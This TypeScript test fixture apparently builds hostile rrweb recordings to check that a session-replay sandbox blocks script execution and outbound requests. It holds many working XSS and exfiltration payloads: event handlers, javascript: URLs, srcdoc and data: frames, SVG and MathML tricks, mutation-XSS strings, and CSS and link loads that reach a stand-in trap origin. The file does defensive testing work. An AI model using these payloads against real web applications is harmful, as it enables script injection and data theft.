/**
 * Hostile recordings: one way of running code or reaching out of a replay each (threats 42 and 43). What a
 * vector would do is always the same: run `fire(name)`, which calls the trap, or make the browser call it.
 */
import type { RecordedEvent } from "./api";

/** A serialised node as rrweb records it. */
export interface Node {
  type: number;
  id?: number;
  tagName?: string;
  attributes?: Record<string, unknown>;
  childNodes?: Node[];
  textContent?: string;
  isSVG?: boolean;
  isStyle?: boolean;
  isShadowHost?: boolean;
  isShadow?: boolean;
  isCustom?: boolean;
  name?: string;
  publicId?: string;
  systemId?: string;
}

/** One attack: what is in the page, and what happens to it later. */
export interface Vector {
  name: string;
  head?: Node[];
  body: Node[];
  /** Data of incremental events that follow. Ids of `body` start at 100, in document order. */
  later?: object[];
}

const START_MS = 1_760_000_000_000;

export const text = (textContent: string): Node => ({ type: 3, textContent });
export const element = (tagName: string, attributes: Record<string, unknown> = {}, childNodes: Node[] = []): Node => ({
  type: 2,
  tagName,
  attributes,
  childNodes,
});
const svg = (tagName: string, attributes: Record<string, unknown> = {}, childNodes: Node[] = []): Node => ({
  ...element(tagName, attributes, childNodes),
  isSVG: true,
});

function numbered(nodes: readonly Node[], from: number): { nodes: Node[]; next: number } {
  let next = from;
  const walk = (node: Node): Node => {
    const id = next;
    next += 1;
    return { ...node, id, ...(node.childNodes === undefined ? {} : { childNodes: node.childNodes.map(walk) }) };
  };
  return { nodes: nodes.map(walk), next };
}

/** The recording of a vector: a page, the attack, and a last change by which a test knows that all was played. */
export function hostileRecording({ head = [], body, later = [] }: Vector): RecordedEvent[] {
  const inHead = numbered(head, 10);
  const inBody = numbered([...body, element("p", { class: "end" }, [text("before")])], 100);
  const page: Node = {
    type: 0,
    id: 1,
    childNodes: [
      { type: 1, id: 2, name: "html", publicId: "", systemId: "" },
      {
        ...element("html", {}, [
          { ...element("head"), id: 4, childNodes: inHead.nodes },
          { ...element("body"), id: 5, childNodes: inBody.nodes },
        ]),
        id: 3,
      },
    ],
  };
  const incremental = [...later, mutation({ texts: [{ id: inBody.next - 1, value: "played to the end" }] })];
  return [
    { type: 4, timestamp: START_MS, data: { href: "http://127.0.0.1/", width: 800, height: 600 } },
    { type: 2, timestamp: START_MS + 10, data: { node: page, initialOffset: { left: 0, top: 0 } } },
    ...incremental.map((data, index) => ({ type: 3, timestamp: START_MS + 100 * (index + 1), data })),
  ];
}

function mutation(parts: object): object {
  return { source: 0, adds: [], removes: [], texts: [], attributes: [], ...parts };
}

/** All vectors; `trap` is the origin that must never be called. */
export function vectors(trap: string): Vector[] {
  const url = (name: string): string => `${trap}/${name}`;
  const fire = (name: string): string => `new Image().src='${url(name)}';top.postMessage('fired ${name}','*')`;
  const script = (name: string): string => `<script>${fire(name)}</script><img src=x onerror="${fire(name)}">`;
  const on = (name: string, tag: string, event: string, more: Record<string, unknown> = {}): Vector => ({
    name,
    body: [element(tag, { ...more, [event]: fire(name) })],
  });
  return [
    on("on-error", "img", "onerror", { src: "data:image/png;base64,AA" }),
    on("on-load", "iframe", "onload", { src: "about:blank" }),
    on("on-toggle", "details", "ontoggle", { open: "" }),
    on("on-focus", "input", "onfocus", { autofocus: "" }),
    on("on-animation", "div", "onanimationstart", { style: "animation: x 1ms" }),
    { name: "script-element", body: [element("script", {}, [text(fire("script-element"))])] },
    { name: "script-source", head: [element("script", { src: url("script-source.js") })], body: [] },
    {
      name: "javascript-link-clicked",
      body: [element("a", { href: `javascript:${fire("javascript-link-clicked")}` }, [text("press")])],
      later: [{ source: 2, type: 2, id: 100, x: 5, y: 5 }],
    },
    { name: "javascript-frame", body: [element("iframe", { src: `javascript:${fire("javascript-frame")}` })] },
    { name: "srcdoc", body: [element("iframe", { srcdoc: script("srcdoc") })] },
    {
      name: "data-frame",
      body: [element("iframe", { src: `data:text/html,${encodeURIComponent(script("data-frame"))}` })],
    },
    { name: "remote-frame", body: [element("iframe", { src: url("remote-frame") })] },
    {
      name: "base",
      head: [element("base", { href: `${trap}/` })],
      body: [element("img", { src: "base.png" })],
    },
    {
      name: "meta-refresh",
      head: [element("meta", { "http-equiv": "refresh", content: `0;url=${url("meta-refresh")}` })],
      body: [],
    },
    {
      name: "svg-script",
      body: [svg("svg", { onload: fire("svg-script") }, [svg("script", {}, [text(fire("svg-script"))])])],
    },
    {
      name: "svg-animate",
      body: [
        svg("svg", {}, [
          svg("a", { "xlink:href": "#" }, [
            svg("animate", { attributeName: "href", values: `javascript:${fire("svg-animate")}`, begin: "0s" }),
            svg("text", { x: "20", y: "20" }, [text("press")]),
          ]),
        ]),
      ],
      later: [{ source: 2, type: 2, id: 101, x: 5, y: 5 }],
    },
    {
      name: "svg-use-and-image",
      body: [
        svg("svg", {}, [
          svg("use", { href: `${url("svg-use")}#x`, "xlink:href": `${url("svg-use")}#x` }),
          svg("image", { href: url("svg-image"), width: "10", height: "10" }),
          svg("feImage", { href: url("svg-feimage") }),
        ]),
      ],
    },
    {
      name: "mathml",
      body: [
        element("math", { href: `javascript:${fire("mathml")}` }, [
          element("maction", { actiontype: "statusline", "xlink:href": `javascript:${fire("mathml")}` }, [
            text("press"),
          ]),
        ]),
      ],
      later: [{ source: 2, type: 2, id: 101, x: 5, y: 5 }],
    },
    {
      name: "mutation-xss",
      body: [
        element("math", {}, [
          element("mtext", {}, [
            element("table", {}, [
              element("mglyph", {}, [
                element("style", {}, [
                  text(`</style><img title="--&gt;&lt;img src=1 onerror=${fire("mutation-xss")}&gt;">`),
                ]),
              ]),
            ]),
          ]),
        ]),
        element("noscript", {}, [text(`</noscript>${script("mutation-xss")}`)]),
        element("template", {}, [text(`</template>${script("mutation-xss")}`)]),
        element("title", {}, [text(`</title>${script("mutation-xss")}`)]),
        { type: 5, textContent: `--><script>${fire("mutation-xss")}</script>` },
      ],
    },
    {
      name: "element-name",
      body: [element(`img src=x onerror=${fire("element-name")} x`), element("x><img src=x onerror=alert(1)>")],
    },
    {
      name: "css-url",
      head: [
        element("style", { _cssText: `body{background:url(${url("css-text")})}` }),
        element("style", {}, [{ ...text(`body{background:u\\72l("${url("css-escape")}")}`), isStyle: true }]),
      ],
      body: [element("div", { style: `background:url('${url("css-attribute")}')` }, [text("x")])],
    },
    {
      name: "css-import",
      head: [
        element("style", {}, [
          { ...text(`@import "${url("css-import.css")}"; @import url(${url("css-import2.css")});`), isStyle: true },
        ]),
      ],
      body: [],
    },
    {
      name: "css-image-set",
      body: [
        element(
          "div",
          { style: `background:image-set("${url("css-image-set")}" 1x);width:expression(${fire("css-image-set")})` },
          [text("x")],
        ),
      ],
    },
    {
      name: "remote-font",
      head: [
        element("style", {}, [
          { ...text(`@font-face{font-family:f;src:url(${url("font.woff2")})} body{font-family:f}`), isStyle: true },
        ]),
      ],
      body: [text("abc")],
      later: [{ source: 10, family: "g", fontSource: `url(${url("font-source.woff2")})`, buffer: false }],
    },
    {
      name: "remote-media",
      body: [
        element("img", { src: url("img"), srcset: `${url("srcset")} 2x` }),
        element("picture", {}, [element("source", { srcset: url("source") }), element("img", { src: url("picture") })]),
        element("video", { src: url("video"), poster: url("poster"), autoplay: "", rr_mediaState: "played" }),
        element("audio", { src: url("audio"), autoplay: "" }),
        element("input", { type: "image", src: url("input-image") }),
        element("body", { background: url("background") }),
        element("img", { rr_dataURL: url("rr-data-url"), src: "x" }),
        element("canvas", { rr_dataURL: url("canvas") }),
      ],
    },
    {
      name: "remote-links",
      head: [
        element("link", { rel: "stylesheet", href: url("sheet.css") }),
        element("link", { rel: "prefetch", href: url("prefetch") }),
        element("link", { rel: "preload", as: "image", href: url("preload") }),
        element("link", { rel: "dns-prefetch preconnect", href: trap }),
        element("link", { rel: "icon", href: url("icon") }),
        element("link", { rel: "manifest", href: url("manifest") }),
      ],
      body: [],
    },
    {
      name: "plugins",
      body: [
        element("object", { data: url("object"), type: "text/html" }),
        element("embed", { src: url("embed"), type: "text/html" }),
        element("applet", { code: "x", codebase: trap }),
        element("portal", { src: url("portal") }),
        element("fencedframe", { src: url("fencedframe") }),
      ],
    },
    {
      name: "form-sent",
      body: [
        element("form", { action: url("form"), method: "post" }, [
          element("button", { formaction: url("formaction"), autofocus: "" }, [text("send")]),
        ]),
      ],
      later: [{ source: 2, type: 2, id: 101, x: 5, y: 5 }],
    },
    {
      name: "ping-and-referrer",
      head: [element("meta", { name: "referrer", content: "unsafe-url" })],
      body: [
        element("a", { href: url("link"), ping: url("ping"), target: "_top", referrerpolicy: "unsafe-url" }, [
          text("press"),
        ]),
      ],
      later: [{ source: 2, type: 2, id: 100, x: 5, y: 5 }],
    },
    {
      name: "later-attributes",
      body: [element("img", {}), element("iframe", {}), element("a", {}, [text("press")]), element("link", {})],
      later: [
        mutation({
          attributes: [
            { id: 100, attributes: { src: url("later-src"), onerror: fire("later-onerror") } },
            { id: 101, attributes: { srcdoc: script("later-srcdoc") } },
            { id: 101, attributes: { src: url("later-frame") } },
            { id: 102, attributes: { href: `javascript:${fire("later-href")}` } },
            { id: 104, attributes: { rel: "stylesheet", href: url("later-sheet") } },
            {
              id: 5,
              attributes: { style: { background: `url(${url("later-style")})` }, onload: fire("later-onload") },
            },
          ],
        }),
      ],
    },
    {
      name: "later-nodes",
      body: [element("div"), element("style", {}, [{ ...text(""), isStyle: true }])],
      later: [
        mutation({
          adds: [
            { parentId: 100, nextId: null, node: { ...element("script", { src: url("later.js") }), id: 900 } },
            {
              parentId: 100,
              nextId: null,
              node: { ...element("img", { src: url("later-img"), onerror: fire("later-nodes") }), id: 901 },
            },
          ],
          texts: [{ id: 102, value: `body{background:url(${url("later-css")})}` }],
        }),
        { source: 8, id: 101, adds: [{ rule: `body{background:url(${url("rule")})}`, index: 0 }] },
        {
          source: 15,
          id: 1,
          styleIds: [1],
          styles: [{ styleId: 1, rules: [{ rule: `p{background:url(${url("adopted")})}`, index: 0 }] }],
        },
      ],
    },
    {
      name: "shadow-root",
      body: [
        {
          ...element("div", {}, [
            { ...element("img", { src: url("shadow"), onerror: fire("shadow-root") }), isShadow: true },
            { ...element("script", {}, [text(fire("shadow-root"))]), isShadow: true },
          ]),
          isShadowHost: true,
        },
      ],
    },
    {
      name: "canvas-commands",
      body: [element("canvas", { width: "10", height: "10" })],
      later: [
        {
          source: 9,
          id: 100,
          type: 0,
          commands: [
            { property: "drawImage", args: [{ rr_type: "HTMLImageElement", src: url("canvas-image") }, 0, 0] },
            { property: "constructor", args: [fire("canvas-commands")] },
          ],
        },
      ],
    },
  ];
}
